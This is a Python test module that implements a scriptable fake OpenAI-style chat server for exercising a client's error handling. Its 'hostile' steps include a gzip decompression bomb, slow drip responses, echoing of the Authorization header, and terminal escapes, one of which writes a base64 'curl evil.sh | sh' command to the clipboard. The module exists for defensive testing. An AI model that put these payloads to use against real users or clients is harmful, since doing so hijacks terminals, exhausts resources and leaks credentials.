"""A fake OpenAI-compatible chat-completions server on 127.0.0.1, scripted step by step.

Built on the standard library only (``http.server.ThreadingHTTPServer``), so it serves real
sockets: timeouts, resets and truncated bodies happen exactly where they would with a real server,
and ``compact run`` started as a subprocess can use it through ``OPENAI_BASE_URL``.

In Python::

    with FakeOpenAI() as fake:
        fake.enqueue(status(500), reply("<summary>...</summary>"))
        model = OpenAIModel("gpt-4o-mini", base_url=fake.base_url, api_key="sk-test")

Standalone (prints ``base_url`` on the first stdout line, then serves until killed)::

    python -m compactor.testing.fake_openai --port 0 --latency 0.3 --script script.json

A script is a JSON list of steps: ``{"reply": "text"}`` (optionally with ``"finish_reason"``
and ``"role"``), ``{"status": 500}``, ``{"status": 429, "headers": {"retry-after": "1"}}``,
``{"hang": true}``, ``{"delay": 0.5}`` (optionally with ``"then": {...}``), ``{"raw": "{not
json"}``, ``{"drop": true}``, ``{"reset": true}``, ``{"truncated": "partial body"}``,
``{"empty_choices": true}``, ``{"content_filter": "partial text"}``, ``{"context_length":
true}``, and the hostile ones: ``{"retry_after": "inf"}`` (a 429 with that header),
``{"drip": 0.5, "where": "headers"}`` (the response one byte every 0.5 s; ``"body"``: a chunked
body), ``{"gzip_bomb": 1073741824}`` (a gzip body that inflates to that many bytes),
``{"content": [{"type": "text", "text": "..."}]}`` (any JSON as ``message.content``),
``{"escapes": 500}`` (an error body full of terminal escapes) and ``{"echo_headers": true}``
(a reply that repeats every request header, ``Authorization`` included).

``max_context_tokens`` (``--max-context-tokens``) makes the fake behave like a model with a
context window: a request whose messages hold more than that many estimated tokens (UTF-8 bytes
of all message contents // 4, see :func:`estimate_tokens`) is refused with HTTP 400 and the
error body OpenAI sends (``code: context_length_exceeded``), before any scripted step is used.
``token_scale`` (``--token-scale``) multiplies that count, like a tokenizer that needs more
tokens than compact's estimate (SmolLM2's counts ~2.5x bytes/4 on some text); replies report it
as ``usage.prompt_tokens``.

``flavor="llama-cpp"`` (``--flavor llama-cpp``) answers the way llama-cpp-python 0.3.36's server
(``python -m llama_cpp.server``) does, read from its sources:

* Its request schema (a pydantic union of system / user / assistant / tool / function messages)
  refuses ``content: null`` on an assistant message, ``content`` that is not a string, a role
  outside the union (``developer``), a ``tool`` message without ``tool_call_id``: HTTP **500**,
  ``{"error": {"message": "7 validation errors:\n  {'type': 'literal_error', 'loc': ('body',
  'messages', 2, 'ChatCompletionRequestSystemMessage', 'role'), ...}\n ...", "type":
  "internal_server_error", "param": null, "code": null}}``, one entry per union member that
  failed, for every bad message. ``tools=False`` (``--no-tools``) models a chat server without
  tools: ``tool``/``function`` roles and ``tool_calls`` are refused the same way.
* A prompt of ``max_context_tokens`` tokens or more: HTTP 400 "This model's maximum context
  length is N tokens. However, you requested M tokens (P in the messages, C in the
  completion)…", ``code: context_length_exceeded``.
* A reply longer than the room left (``max_context_tokens`` minus the prompt, or the request's
  ``max_tokens`` when smaller) is cut there with ``finish_reason: "length"``.
"""

from __future__ import annotations

import argparse
import functools
import json
import math
import socket
import struct
import sys
import threading
import time
import zlib
from collections import deque
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from types import TracebackType
from typing import Any, Self

__all__ = [
    "DEFAULT_SUMMARY",
    "ESCAPES",
    "FakeOpenAI",
    "RecordedRequest",
    "Step",
    "content_filter",
    "context_length_error",
    "delay",
    "drip",
    "drop",
    "echo_headers",
    "empty_choices",
    "escape_error",
    "estimate_tokens",
    "gzip_bomb",
    "gzip_bomb_body",
    "hang",
    "llama_cpp_validation_errors",
    "main",
    "raw",
    "reply",
    "reply_content",
    "reset_connection",
    "retry_after",
    "status",
    "step_from_dict",
    "truncated",
]

DEFAULT_SUMMARY = """<analysis>
The conversation was walked through in order; this is a canned summary from the fake server.
</analysis>

<summary>
1. Primary Request and Intent:
   The user asked for a task to be done.
2. Key Technical Concepts:
   - none
3. Files and Code Sections:
   - none
4. Errors and fixes:
   - none
5. Problem Solving:
   Work progressed normally.
6. All user messages:
<all_user_messages>
    - (fake server summary)
</all_user_messages>
7. Pending Tasks:
   - none
8. Current Work:
   Summarizing the conversation.
9. Optional Next Step:
   None.
</summary>"""
"""The reply used when the step queue is empty (unless ``default`` is given)."""

_PATHS = frozenset({"/v1/chat/completions", "/chat/completions"})


@dataclass(frozen=True, slots=True)
class Step:
    """One scripted response. Build steps with :func:`reply`, :func:`status`, ... ."""

    kind: str
    text: str | None = ""
    usage: dict[str, int] | None = None
    finish_reason: str = "stop"
    role: str = "assistant"
    code: int = 200
    headers: dict[str, str] = field(default_factory=dict)
    body: bytes | None = None
    seconds: float = 0.0
    then: Step | None = None
    content: Any = None
    """``reply_content``: the JSON value sent as ``message.content`` instead of ``text``."""
    where: str = ""
    """``drip``: ``headers`` (the whole response byte by byte) or ``body`` (a chunked body)."""
    size: int = 0
    """``gzip_bomb``: the number of bytes the body inflates to."""


def reply(
    text: str | None,
    usage: dict[str, int] | None = None,
    finish_reason: str = "stop",
    role: str = "assistant",
) -> Step:
    """A 200 chat completion with one choice whose message content is ``text`` (None: null).

    ``role`` other than ``"assistant"`` makes a reply no real server sends (a wrong role)."""
    return Step("reply", text=text, usage=usage, finish_reason=finish_reason, role=role)


def status(code: int, headers: dict[str, str] | None = None, body: Any = None) -> Step:
    """An HTTP response with ``code``; ``body``: bytes, str or JSON-able (default: an error)."""
    if body is None:
        payload = {"error": {"message": f"fake error {code}", "type": "fake", "code": None}}
        data = json.dumps(payload).encode()
    elif isinstance(body, bytes):
        data = body
    elif isinstance(body, str):
        data = body.encode()
    else:
        data = json.dumps(body).encode()
    return Step("status", code=code, headers=dict(headers or {}), body=data)


def delay(seconds: float, then_step: Step | None = None) -> Step:
    """Wait ``seconds`` (interruptible by stop/reset), then run ``then_step`` (default: default)."""
    return Step("delay", seconds=seconds, then=then_step)


def hang() -> Step:
    """Never answer: block until the server is stopped or reset, then close the connection."""
    return Step("hang")


def raw(data: bytes | str) -> Step:
    """A 200 response with ``data`` as the body (malformed or truncated JSON)."""
    return Step("raw", body=data.encode() if isinstance(data, str) else data)


def drop() -> Step:
    """Close the connection without sending any response."""
    return Step("drop")


def reset_connection() -> Step:
    """Abort the connection with a TCP reset (RST, not a clean close), sending nothing."""
    return Step("reset")


def truncated(data: bytes | str = b'{"id": "chatcmpl-fake", "choices": [') -> Step:
    """Send 200 headers announcing more bytes than ``data`` (Content-Length + 100), send
    ``data``, then close: the body ends early."""
    return Step("truncated", body=data.encode() if isinstance(data, str) else data)


def content_filter(text: str = "") -> Step:
    """A 200 completion whose choice stopped with ``finish_reason: "content_filter"``; ``text`` is
    the (partial) content, empty means ``content: null``."""
    return Step("reply", text=text or None, finish_reason="content_filter")


def context_length_error(limit: int = 8192, tokens: int = 10000) -> Step:
    """The HTTP 400 OpenAI answers when the messages do not fit the model's context window."""
    return status(400, body=_context_length_body(limit, tokens))


def _context_length_body(limit: int, tokens: int) -> dict[str, Any]:
    return {
        "error": {
            "message": (
                f"This model's maximum context length is {limit} tokens. However, your messages "
                f"resulted in {tokens} tokens. Please reduce the length of the messages."
            ),
            "type": "invalid_request_error",
            "param": "messages",
            "code": "context_length_exceeded",
        }
    }


def estimate_tokens(body: Any, scale: float = 1.0) -> int:
    """The fake's token estimate of a request: UTF-8 bytes of all message contents // 4, times
    ``scale`` (rounded up).

    A string content counts as is; a list of parts counts the ``text`` of its parts; other
    fields (roles, tool calls) are not counted.
    """
    messages = body.get("messages") if isinstance(body, dict) else None
    size = 0
    for msg in messages if isinstance(messages, list) else []:
        content = msg.get("content") if isinstance(msg, dict) else None
        if isinstance(content, str):
            size += len(content.encode("utf-8"))
        elif isinstance(content, list):
            for part in content:
                text = part.get("text") if isinstance(part, dict) else None
                if isinstance(text, str):
                    size += len(text.encode("utf-8"))
    return size // 4 if scale == 1.0 else math.ceil(size // 4 * scale)


# -- llama-cpp-python's server -----------------------------------------------------------------

_LLAMA_MEMBERS: tuple[tuple[str, str, tuple[tuple[str, str], ...]], ...] = (
    # (pydantic model, role literal, ((field, rule), ...)) in llama_types' declaration order;
    # rules: "opt" = required key, str or null; "parts" = required, str, list or null;
    # "str?" = optional key, str when present; "list?" = optional key, a list; "str" = required.
    ("ChatCompletionRequestSystemMessage", "system", (("content", "opt"),)),
    ("ChatCompletionRequestUserMessage", "user", (("content", "parts"),)),
    (
        "ChatCompletionRequestAssistantMessage",
        "assistant",
        (("content", "str?"), ("tool_calls", "list?")),
    ),
    ("ChatCompletionRequestToolMessage", "tool", (("content", "opt"), ("tool_call_id", "str"))),
    ("ChatCompletionRequestFunctionMessage", "function", (("content", "opt"), ("name", "str"))),
)
_PARTS = (
    "list[union[ChatCompletionRequestMessageContentPartText,"
    "ChatCompletionRequestMessageContentPartImage]]"
)
_LLAMA_TRACE = (
    '\n  File "/usr/lib/python3/site-packages/llama_cpp/server/app.py", line 376, in '
    "create_chat_completion\n    POST /v1/chat/completions"
)


def _member_errors(
    i: int, msg: dict[str, Any], member: tuple[str, str, tuple[tuple[str, str], ...]], tools: bool
) -> list[dict[str, Any]]:
    model, role, fields = member
    loc = ("body", "messages", i, model)
    errors: list[dict[str, Any]] = []
    if "role" not in msg:
        errors.append({"type": "missing", "loc": (*loc, "role"), "msg": "Field required"})
        errors[-1]["input"] = msg
    elif msg["role"] != role:
        errors.append(
            {
                "type": "literal_error",
                "loc": (*loc, "role"),
                "msg": f"Input should be '{role}'",
                "input": msg["role"],
                "ctx": {"expected": f"'{role}'"},
            }
        )
    for name, rule in fields:
        if name == "tool_calls" and not tools:
            if name in msg:
                errors.append(
                    {
                        "type": "extra_forbidden",
                        "loc": (*loc, name),
                        "msg": "Extra inputs are not permitted",
                        "input": msg[name],
                    }
                )
            continue
        if name not in msg:
            if rule in ("opt", "parts", "str"):
                errors.append(
                    {"type": "missing", "loc": (*loc, name), "msg": "Field required", "input": msg}
                )
            continue
        value = msg[name]
        if rule == "list?" and isinstance(value, list):
            errors.extend(_tool_call_errors((*loc, name), value))
            continue
        ok = {
            "opt": value is None or isinstance(value, str),
            "parts": value is None or isinstance(value, str | list),
            "str?": isinstance(value, str),
            "str": isinstance(value, str),
            "list?": isinstance(value, list),
        }[rule]
        if ok:
            continue
        if rule == "parts":  # Optional[Union[str, List[part]]]: one error per union branch
            for branch, kind, what in (
                ("str", "string_type", "a valid string"),
                (_PARTS, "list_type", "a valid list"),
            ):
                errors.append(
                    {
                        "type": kind,
                        "loc": (*loc, name, branch),
                        "msg": f"Input should be {what}",
                        "input": value,
                    }
                )
            continue
        kind = "list_type" if rule == "list?" else "string_type"
        what = "a valid list" if rule == "list?" else "a valid string"
        errors.append(
            {"type": kind, "loc": (*loc, name), "msg": f"Input should be {what}", "input": value}
        )
    return errors


def _field_errors(
    loc: tuple[Any, ...], obj: dict[str, Any], name: str, literal: str | None = None
) -> list[dict[str, Any]]:
    """A required string field (or one ``literal`` value) of ``obj``, as pydantic reports it."""
    if name not in obj:
        return [{"type": "missing", "loc": (*loc, name), "msg": "Field required", "input": obj}]
    value = obj[name]
    if literal is not None and value != literal:
        return [
            {
                "type": "literal_error",
                "loc": (*loc, name),
                "msg": f"Input should be '{literal}'",
                "input": value,
                "ctx": {"expected": f"'{literal}'"},
            }
        ]
    if literal is None and not isinstance(value, str):
        return [
            {
                "type": "string_type",
                "loc": (*loc, name),
                "msg": "Input should be a valid string",
                "input": value,
            }
        ]
    return []


def _dict_error(loc: tuple[Any, ...], value: Any) -> dict[str, Any]:
    return {
        "type": "dict_type",
        "loc": loc,
        "msg": "Input should be a valid dictionary",
        "input": value,
    }


def _tool_call_errors(loc: tuple[Any, ...], calls: list[Any]) -> list[dict[str, Any]]:
    """``tool_calls`` items: ``{id: str, type: "function", function: {name, arguments}}``."""
    errors: list[dict[str, Any]] = []
    for j, call in enumerate(calls):
        at = (*loc, j)
        if not isinstance(call, dict):
            errors.append(_dict_error(at, call))
            continue
        errors.extend(_field_errors(at, call, "id"))
        errors.extend(_field_errors(at, call, "type", literal="function"))
        if "function" not in call:
            errors.extend(_field_errors(at, call, "function"))
        elif not isinstance(call["function"], dict):
            errors.append(_dict_error((*at, "function"), call["function"]))
        else:
            for name in ("name", "arguments"):
                errors.extend(_field_errors((*at, "function"), call["function"], name))
    return errors


def llama_cpp_validation_errors(body: Any, tools: bool = True) -> list[dict[str, Any]]:
    """The errors llama-cpp-python 0.3.36's request schema finds in ``body["messages"]``: for
    each message no union member accepts, one list of errors per member (pydantic's format)."""
    messages = body.get("messages") if isinstance(body, dict) else None
    members = _LLAMA_MEMBERS if tools else _LLAMA_MEMBERS[:3]
    found: list[dict[str, Any]] = []
    for i, msg in enumerate(messages if isinstance(messages, list) else []):
        if not isinstance(msg, dict):
            found.append(
                {
                    "type": "model_type",
                    "loc": ("body", "messages", i),
                    "msg": "Input should be a valid dictionary",
                    "input": msg,
                }
            )
            continue
        per_member = [_member_errors(i, msg, m, tools) for m in members]
        if all(per_member):
            for errors in per_member:
                found.extend(errors)
    return found


def _llama_validation_body(errors: list[dict[str, Any]]) -> dict[str, Any]:
    n = len(errors)
    lines = "".join(f"  {e!r}\n" for e in errors)
    message = f"{n} validation error{'s' if n != 1 else ''}:\n{lines}{_LLAMA_TRACE}"
    return {
        "error": {"message": message, "type": "internal_server_error", "param": None, "code": None}
    }


def _llama_context_body(limit: int, prompt: int, completion: int | None) -> dict[str, Any]:
    return {
        "error": {
            "message": (
                f"This model's maximum context length is {limit} tokens. However, you requested "
                f"{(completion or 0) + prompt} tokens ({prompt} in the messages, {completion} in "
                "the completion). Please reduce the length of the messages or completion."
            ),
            "type": "invalid_request_error",
            "param": "messages",
            "code": "context_length_exceeded",
        }
    }


def empty_choices() -> Step:
    """A 200 chat completion with ``choices: []``."""
    return Step("empty_choices")


# -- hostile servers -------------------------------------------------------------------------

ESCAPES = (
    "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"  # OSC 52: write the clipboard
    "\x1b]0;pwned\x07"  # OSC 0: set the window title
    "\x1b]8;;http://evil.example/\x1b\\click\x1b]8;;\x1b\\"  # OSC 8: a hyperlink
    "\x1b[2J\x1b[H"  # clear the screen, cursor home
    "\x9b31m"  # a C1 CSI (8-bit) sequence
    "\u202e"  # right-to-left override
)
"""Terminal escapes a hostile server may put in a body (clipboard, title, link, clear screen)."""


def retry_after(value: str, code: int = 429) -> Step:
    """A ``code`` answer whose ``retry-after`` header is ``value`` (``"1000000000"``, ``"inf"``,
    ``"Fri, 31 Dec 9999 23:59:59 GMT"``, ...)."""
    return status(code, headers={"retry-after": value})


def drip(interval: float, where: str = "headers", then_step: Step | None = None) -> Step:
    """Send the answer (``then_step``, default: the default reply) one byte every ``interval``
    seconds: ``where="headers"`` drips the whole response from its status line on,
    ``where="body"`` sends the headers at once and drips a chunked body. Each byte arrives well
    within any per-read timeout; only a deadline on the whole request stops it."""
    if where not in ("headers", "body"):
        raise ValueError(f"drip where must be 'headers' or 'body', got {where!r}")
    return Step("drip", seconds=interval, where=where, then=then_step)


@functools.lru_cache(maxsize=4)
def gzip_bomb_body(size: int) -> bytes:
    """A valid gzip stream of ``size`` zero bytes, about ``size / 1000`` bytes long.

    Built without compressing ``size`` bytes: after a full flush deflate starts afresh, so every
    MiB of zeros compresses to the same block, which is repeated; the trailer's CRC-32 is
    computed over the zeros (about 0.25 s per GiB, once per size)."""
    mib = 1 << 20
    zeros = bytes(mib)
    comp = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    block = comp.compress(zeros) + comp.flush(zlib.Z_FULL_FLUSH)
    whole, rest = divmod(size, mib)
    crc = 0
    for _ in range(whole):
        crc = zlib.crc32(zeros, crc)
    crc = zlib.crc32(bytes(rest), crc)
    header = b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\xff"
    tail = comp.compress(bytes(rest)) + comp.flush()
    trailer = struct.pack("<II", crc, size & 0xFFFFFFFF)
    return header + block * whole + tail + trailer


def gzip_bomb(size: int = 1 << 30, code: int = 200) -> Step:
    """A ``code`` answer with ``content-encoding: gzip`` whose body (about ``size / 1000``
    bytes) inflates to ``size`` zero bytes (default 1 GiB from about 1 MB)."""
    return Step("gzip_bomb", code=code, size=size)


def reply_content(content: Any, finish_reason: str = "stop") -> Step:
    """A 200 chat completion whose ``message.content`` is ``content`` as given: a list of parts
    (``[{"type": "text", "text": "..."}]``, as several servers send), a dict, a number, ..."""
    return Step("reply", content=content, finish_reason=finish_reason)


def escape_error(code: int = 500) -> Step:
    """An error answer whose message is full of terminal escapes (:data:`ESCAPES`)."""
    message = f"upstream failed {ESCAPES} see logs"
    return status(code, body={"error": {"message": message, "type": "fake", "code": None}})


def echo_headers() -> Step:
    """A 200 chat completion whose content repeats every request header, ``Authorization``
    and any ``api-key`` included, as a summary: what a hostile or careless server may do."""
    return Step("echo_headers")


def step_from_dict(d: dict[str, Any]) -> Step:
    """One step of a ``--script`` JSON file."""
    if "reply" in d:
        return reply(
            str(d["reply"]),
            usage=d.get("usage"),
            finish_reason=str(d.get("finish_reason", "stop")),
            role=str(d.get("role", "assistant")),
        )
    if "status" in d:
        return status(int(d["status"]), headers=d.get("headers"), body=d.get("body"))
    if "delay" in d:
        then = d.get("then")
        return delay(float(d["delay"]), step_from_dict(then) if isinstance(then, dict) else None)
    if d.get("hang"):
        return hang()
    if "raw" in d:
        return raw(str(d["raw"]))
    if d.get("drop"):
        return drop()
    if d.get("reset"):
        return reset_connection()
    if "truncated" in d:
        value = d["truncated"]
        return truncated(value) if isinstance(value, str) else truncated()
    if d.get("empty_choices"):
        return empty_choices()
    if "content_filter" in d:
        value = d["content_filter"]
        return content_filter(value if isinstance(value, str) else "")
    if d.get("context_length"):
        return context_length_error()
    if "retry_after" in d:
        return retry_after(str(d["retry_after"]), int(d.get("code", 429)))
    if "drip" in d:
        then = d.get("then")
        return drip(
            float(d["drip"]),
            str(d.get("where", "headers")),
            step_from_dict(then) if isinstance(then, dict) else None,
        )
    if "gzip_bomb" in d:
        return gzip_bomb(int(d["gzip_bomb"]), int(d.get("code", 200)))
    if "content" in d:
        return reply_content(d["content"], str(d.get("finish_reason", "stop")))
    if "escapes" in d:
        return escape_error(int(d["escapes"]))
    if d.get("echo_headers"):
        return echo_headers()
    raise ValueError(f"unknown fake step: {d!r}")


@dataclass(slots=True)
class RecordedRequest:
    """One request the fake received; ``headers`` never contain ``authorization``."""

    method: str
    path: str
    headers: dict[str, str]
    json: Any
    peer: str = ""
    """The client's ``host:port``: equal peers = one kept-alive connection."""
    auth_scheme: str | None = None
    """The Authorization header's scheme (``Bearer``), never its credentials; None if absent."""


class _Server(ThreadingHTTPServer):
    daemon_threads = True
    # socketserver's default backlog of 5 overflows when a batch opens 16+ connections at once:
    # the kernel drops the handshakes and clients see resets or wait a second to retry.
    request_queue_size = 128
    fake: FakeOpenAI

    def __init__(self, address: tuple[str, int], handler: type[BaseHTTPRequestHandler]) -> None:
        super().__init__(address, handler)
        self.resets: set[socket.socket] = set()
        """Connections a ``reset`` step aborts: closed without the FIN of a normal shutdown."""

    def handle_error(self, request: Any, client_address: Any) -> None:
        """A client that hangs up (a deadline, a refused body) is normal here: no traceback."""
        if isinstance(sys.exc_info()[1], ConnectionError):
            return
        super().handle_error(request, client_address)

    def shutdown_request(self, request: Any) -> None:
        if request in self.resets:
            self.resets.discard(request)
            self.close_request(request)  # SO_LINGER 0: the close sends RST
            return
        super().shutdown_request(request)


class _Handler(BaseHTTPRequestHandler):
    server: _Server
    # Keep-alive: a client reuses its connections (and this server its threads) across requests,
    # so the fake is not what limits a benchmark. Every response has a content-length.
    protocol_version = "HTTP/1.1"
    # Headers and body go out in two writes; with Nagle's algorithm on, the body would wait for
    # the client's delayed ACK (40 ms) on a kept-alive connection.
    disable_nagle_algorithm = True
    _all_headers: dict[str, str]
    """Every header of the request being answered (for ``echo_headers``)."""

    def log_message(self, format: str, *args: Any) -> None:
        return

    def do_GET(self) -> None:
        self._send_json(404, {"error": {"message": f"no route {self.path!r}", "type": "fake"}})

    def do_POST(self) -> None:
        fake = self.server.fake
        arrived = time.monotonic()
        fake._enter()
        try:
            self._post(fake, arrived)
        finally:
            fake._leave()

    def _post(self, fake: FakeOpenAI, arrived: float) -> None:
        length = int(self.headers.get("content-length") or 0)
        data = self.rfile.read(length) if length else b""
        try:
            body: Any = json.loads(data) if data else None
        except ValueError:
            body = None
        headers = {k.lower(): v for k, v in self.headers.items() if k.lower() != "authorization"}
        peer = "{}:{}".format(*self.client_address[:2])
        auth = self.headers.get("authorization")
        scheme = auth.split(" ", 1)[0] if auth else None
        fake._record(RecordedRequest("POST", self.path, headers, body, peer, scheme))
        self._all_headers = {k.lower(): v for k, v in self.headers.items()}
        if self.path.split("?", 1)[0] not in _PATHS:
            self._send_json(404, {"error": {"message": f"no route {self.path!r}", "type": "fake"}})
            return
        if fake.flavor == "llama-cpp":
            errors = llama_cpp_validation_errors(body, fake.tools)
            if errors:  # FastAPI validates the body before the handler runs
                self._send_json(500, _llama_validation_body(errors))
                return
        elif not fake.tools and _has_tools(body):
            self._send_json(400, _no_tools_body())
            return
        limit = fake.max_context_tokens
        tokens = estimate_tokens(body, fake.token_scale)
        if limit is not None and fake.flavor == "llama-cpp" and tokens >= limit:
            # llama.cpp: "Requested tokens (P) exceed context window of N", reworded.
            completion = body.get("max_tokens") if isinstance(body, dict) else None
            wanted = completion if isinstance(completion, int) else None
            self._send_json(400, _llama_context_body(limit, tokens, wanted))
            return
        if limit is not None and tokens > limit:
            # A real server refuses before generating: no scripted step is used up.
            self._send_json(400, _context_length_body(limit, tokens))
            return
        step, release = fake._next_step()
        # The latency counts from the request's arrival, so the fake's own parsing (and its
        # threads' turns at the GIL under load) is not added on top of it.
        wait = fake.latency - (time.monotonic() - arrived)
        if wait > 0 and release.wait(wait):
            self.close_connection = True
            return
        self._run(step, body, release)

    def _run(self, step: Step, body: Any, release: threading.Event) -> None:
        fake = self.server.fake
        if step.kind == "delay":
            if release.wait(step.seconds):
                self.close_connection = True
                return
            self._run(step.then or fake.default, body, release)
        elif step.kind == "hang":
            release.wait()
            self.close_connection = True
        elif step.kind == "drop":
            self.close_connection = True
        elif step.kind == "reset":
            # SO_LINGER on with timeout 0, and no shutdown(): close() sends RST instead of FIN.
            self.connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
            self.server.resets.add(self.connection)
            self.close_connection = True
        elif step.kind == "truncated":
            data = step.body or b""
            self.send_response(200)
            self.send_header("content-type", "application/json")
            self.send_header("content-length", str(len(data) + 100))
            self.end_headers()
            self.wfile.write(data)
            self.wfile.flush()
            self.close_connection = True
        elif step.kind == "raw":
            self._send_bytes(200, step.body or b"", {})
        elif step.kind == "status":
            self._send_bytes(step.code, step.body or b"", step.headers)
        elif step.kind == "empty_choices":
            self._send_json(200, _completion(body, [], None))
        elif step.kind == "drip":
            self._drip(step, body, release)
        elif step.kind == "gzip_bomb":
            data = gzip_bomb_body(step.size)
            self._send_bytes(step.code, data, {"content-encoding": "gzip"})
        elif step.kind == "echo_headers":
            echo = "<summary>\nrequest headers: " + json.dumps(self._all_headers) + "\n</summary>"
            self._run(reply(echo), body, release)
        else:
            prompt = estimate_tokens(body, fake.token_scale)
            text, finish = step.text, step.finish_reason
            if fake.flavor == "llama-cpp" and text:
                text, finish = _llama_cut(fake, body, prompt, text, finish)
            completion = math.ceil(len((text or "").encode("utf-8")) // 4 * fake.token_scale)
            usage = step.usage or {
                "prompt_tokens": prompt,
                "completion_tokens": completion,
                "total_tokens": prompt + completion,
            }
            content = step.content if step.content is not None else text
            choice = {
                "index": 0,
                "message": {"role": step.role, "content": content},
                "finish_reason": finish,
            }
            self._send_json(200, _completion(body, [choice], usage))

    def _response_bytes(self, step: Step, body: Any) -> tuple[bytes, bytes]:
        """(status line + headers, body) of ``step`` as this handler would send them."""
        import io

        real_wfile = self.wfile
        buffer = io.BytesIO()
        self.wfile = buffer
        try:
            self._run(step, body, threading.Event())
        finally:
            self.wfile = real_wfile
        head, _, payload = buffer.getvalue().partition(b"\r\n\r\n")
        return head + b"\r\n\r\n", payload

    def _drip(self, step: Step, body: Any, release: threading.Event) -> None:
        """Send ``step.then`` one byte every ``step.seconds`` (see :func:`drip`)."""
        head, payload = self._response_bytes(step.then or self.server.fake.default, body)
        self.close_connection = True
        if step.where == "body":
            lines = [line for line in head.split(b"\r\n") if line]
            kept = [line for line in lines if not line.lower().startswith(b"content-length:")]
            chunked = b"\r\n".join([*kept, b"transfer-encoding: chunked"]) + b"\r\n\r\n"
            self._write(chunked)
            pieces = [b"1\r\n" + payload[i : i + 1] + b"\r\n" for i in range(len(payload))]
            pieces.append(b"0\r\n\r\n")
        else:
            data = head + payload
            pieces = [data[i : i + 1] for i in range(len(data))]
        for piece in pieces:
            if release.wait(step.seconds) or not self._write(piece):
                return  # stopped or reset, or the client gave up

    def _write(self, data: bytes) -> bool:
        try:
            self.wfile.write(data)
            self.wfile.flush()
        except OSError:
            return False
        return True

    def _send_json(self, code: int, payload: Any) -> None:
        self._send_bytes(code, json.dumps(payload).encode(), {})

    def _send_bytes(self, code: int, data: bytes, headers: dict[str, str]) -> None:
        self.send_response(code)
        names = {k.lower() for k in headers}
        if "content-type" not in names:
            self.send_header("content-type", "application/json")
        for key, value in headers.items():
            self.send_header(key, value)
        self.send_header("content-length", str(len(data)))
        self.end_headers()
        self.wfile.write(data)
        self.wfile.flush()


def _llama_cut(fake: FakeOpenAI, body: Any, prompt: int, text: str, finish: str) -> tuple[str, str]:
    """``text`` cut to the room llama.cpp leaves (the window minus the prompt, or the request's
    ``max_tokens`` when smaller), with ``finish_reason: "length"`` when it was cut."""
    room: int | None = None
    if fake.max_context_tokens is not None:
        room = fake.max_context_tokens - prompt
    wanted = body.get("max_tokens") if isinstance(body, dict) else None
    if isinstance(wanted, int) and wanted > 0:
        room = wanted if room is None else min(room, wanted)
    if room is None:
        return text, finish
    data = text.encode("utf-8")
    keep = max(int(room * 4 / fake.token_scale), 0)
    if len(data) <= keep:
        return text, finish
    return data[:keep].decode("utf-8", "ignore"), "length"


def _has_tools(body: Any) -> bool:
    messages = body.get("messages") if isinstance(body, dict) else None
    return any(
        isinstance(m, dict) and (m.get("role") in ("tool", "function") or "tool_calls" in m)
        for m in (messages if isinstance(messages, list) else [])
    )


def _no_tools_body() -> dict[str, Any]:
    """What an OpenAI-style server without tool support answers (vLLM-like 400)."""
    return {
        "error": {
            "message": "Invalid value for 'messages': unsupported role 'tool' or 'tool_calls' "
            "(this model does not support tools)",
            "type": "invalid_request_error",
            "param": "messages",
            "code": None,
        }
    }


def _completion(body: Any, choices: list[Any], usage: dict[str, int] | None) -> dict[str, Any]:
    model = body.get("model", "fake") if isinstance(body, dict) else "fake"
    out: dict[str, Any] = {
        "id": "chatcmpl-fake",
        "object": "chat.completion",
        "created": 0,
        "model": model,
        "choices": choices,
    }
    if usage is not None:
        out["usage"] = usage
    return out


class FakeOpenAI:
    """A scriptable fake chat-completions server; see the module docstring."""

    def __init__(
        self,
        *,
        default: Step | None = None,
        latency: float = 0.0,
        host: str = "127.0.0.1",
        port: int = 0,
        max_context_tokens: int | None = None,
        flavor: str = "openai",
        tools: bool = True,
        token_scale: float = 1.0,
    ) -> None:
        if flavor not in ("openai", "llama-cpp"):
            raise ValueError(f"flavor must be 'openai' or 'llama-cpp', got {flavor!r}")
        self.default = default or reply(DEFAULT_SUMMARY)
        self.latency = latency
        self.max_context_tokens = max_context_tokens
        """Refuse requests estimated above this many tokens (HTTP 400); None = no limit."""
        self.flavor = flavor
        """``llama-cpp``: validate, refuse and cut replies as llama-cpp-python's server does."""
        self.tools = tools
        """False (llama-cpp flavor): tool roles and ``tool_calls`` are refused by the schema."""
        self.token_scale = token_scale
        """Tokens per estimated token (bytes // 4) when counting a request."""
        self._host = host
        self._port = port
        self._lock = threading.Lock()
        self._steps: deque[Step] = deque()
        self._requests: list[RecordedRequest] = []
        self._release = threading.Event()
        self._server: _Server | None = None
        self._thread: threading.Thread | None = None
        self._in_flight = 0
        self._peak = 0

    # -- lifecycle ---------------------------------------------------------------------------

    def start(self) -> Self:
        """Bind and serve in a daemon thread; returns self."""
        if self._server is not None:
            return self
        server = _Server((self._host, self._port), _Handler)
        server.fake = self
        self._server = server
        self._thread = threading.Thread(
            target=server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True
        )
        self._thread.start()
        return self

    def stop(self) -> None:
        """Release hanging requests, stop serving and close the socket."""
        self._release.set()
        server, thread = self._server, self._thread
        self._server = self._thread = None
        if server is not None:
            server.shutdown()
            server.server_close()
        if thread is not None:
            thread.join(timeout=5)

    def reset(self) -> None:
        """Release hanging requests and forget queued steps and recorded requests."""
        with self._lock:
            self._release.set()
            self._release = threading.Event()
            self._steps.clear()
            self._requests.clear()
            self._peak = self._in_flight

    def __enter__(self) -> Self:
        return self.start()

    def __exit__(
        self,
        exc_type: type[BaseException] | None,
        exc: BaseException | None,
        tb: TracebackType | None,
    ) -> None:
        self.stop()

    # -- scripting ---------------------------------------------------------------------------

    @property
    def port(self) -> int:
        if self._server is None:
            raise RuntimeError("fake server is not running")
        return int(self._server.server_address[1])

    @property
    def base_url(self) -> str:
        """``http://127.0.0.1:PORT/v1``."""
        return f"http://{self._host}:{self.port}/v1"

    def enqueue(self, *steps: Step) -> None:
        """Append steps; each request consumes one, then ``default`` is used."""
        with self._lock:
            self._steps.extend(steps)

    @property
    def pending(self) -> list[Step]:
        """Steps not consumed yet."""
        with self._lock:
            return list(self._steps)

    def assert_complete(self) -> None:
        """Fail when scripted steps were left unused."""
        left = self.pending
        if left:
            raise AssertionError(f"{len(left)} fake step(s) left unused: {left!r}")

    @property
    def requests(self) -> list[RecordedRequest]:
